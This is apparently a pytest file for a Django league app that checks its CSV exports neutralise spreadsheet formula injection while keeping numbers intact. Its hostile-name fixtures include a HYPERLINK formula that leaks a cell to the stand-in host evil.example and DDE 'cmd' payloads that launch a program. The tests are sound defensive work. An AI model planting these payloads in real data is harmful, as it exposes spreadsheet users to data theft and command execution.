"""CSV formula injection: every CSV export goes through games.plumbing.safe_csv, so a team or
league renamed to a formula opens in a spreadsheet as text, numbers stay numbers, and the
download is UTF-8 with a byte-order mark."""

import csv
import io
import re

import pytest
from django.core.management import call_command

from games.plumbing import safe_csv
from tests.leagues.conftest import make_league, play_fixture

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Standings")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
)
# What a spreadsheet reads as a number rather than as a formula.
NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d*)?|\.\d+)%?")


def opens_as_a_formula(cell: str) -> bool:
    """An independent reading of what LibreOffice and Excel do with a CSV cell."""
    if NUMBER.fullmatch(cell.strip()):
        return False
    return cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("+66", "+66"),
        ("-1.000", "-1.000"),
        ("+0.125", "+0.125"),
        ("-3", "-3"),
        (".500", ".500"),
        ("—", "—"),
        ("Giants", "Giants"),
        ("", ""),
        (7, 7),
        (-2.5, -2.5),
        (None, None),
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("+A1", "'+A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =1", "' =1"),
        ("-", "'-"),
    ],
)
def test_a_cell_is_neutralised_unless_it_is_a_number(value, written) -> None:
    assert safe_csv.neutralise(value) == written


def _hostile_season(organiser):
    league, season, teams = make_league("quick-baseball", {"innings": 2}, teams=("A", "B", "C"))
    league.name = HOSTILE_NAMES[0]
    league.save()
    for team, name in zip(teams, HOSTILE_NAMES[1:], strict=False):
        team.name = name
        team.save()
    games = [
        play_fixture(season, teams[0], teams[1], organiser, seed=1),
        play_fixture(season, teams[1], teams[2], organiser, seed=2),
    ]
    return league, season, teams, games


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_no_csv_download_holds_a_live_formula(client, organiser) -> None:
    league, season, teams, games = _hostile_season(organiser)
    prefix = f"/leagues/{league.slug}"
    downloads = {
        "standings": client.get(f"{prefix}/{season.slug}/standings.csv"),
        "season stats": client.get(f"{prefix}/{season.slug}/stats.csv"),
        "all-time stats": client.get(f"{prefix}/stats.csv"),
        "game log": client.get(f"/games/{games[0].pk}/gamelog.csv"),
    }
    seen_names = set()
    for what, response in downloads.items():
        rows = _cells(response)
        for cell in (cell for row in rows for cell in row):
            assert not opens_as_a_formula(cell), (what, cell)
            if cell.startswith("'"):
                seen_names.add(cell[1:])
    # Each hostile team name is there, as text.
    assert set(HOSTILE_NAMES[1:4]) <= seen_names


def test_numbers_stay_numbers_and_the_leader_reads_as_on_the_page(client, organiser) -> None:
    league, season, teams, _ = _hostile_season(organiser)
    rows = _cells(client.get(f"/leagues/{league.slug}/{season.slug}/standings.csv"))
    header, body = rows[0], rows[1:]
    differences = [row[header.index("DIFF")] for row in body]
    assert all(re.fullmatch(r"[+-]?\d+", cell) for cell in differences), differences
    assert any(cell.startswith(("+", "-")) for cell in differences)
    games_behind = [row[header.index("GB")] for row in body]
    assert games_behind[0] == "—"


def test_the_standings_command_writes_the_same_safe_cells(organiser) -> None:
    league, season, _, _ = _hostile_season(organiser)
    out = io.StringIO()
    call_command("standings", league=league.slug, season=season.slug, format="csv", stdout=out)
    for row in csv.reader(io.StringIO(out.getvalue(), newline="")):
        assert not any(opens_as_a_formula(cell) for cell in row), row
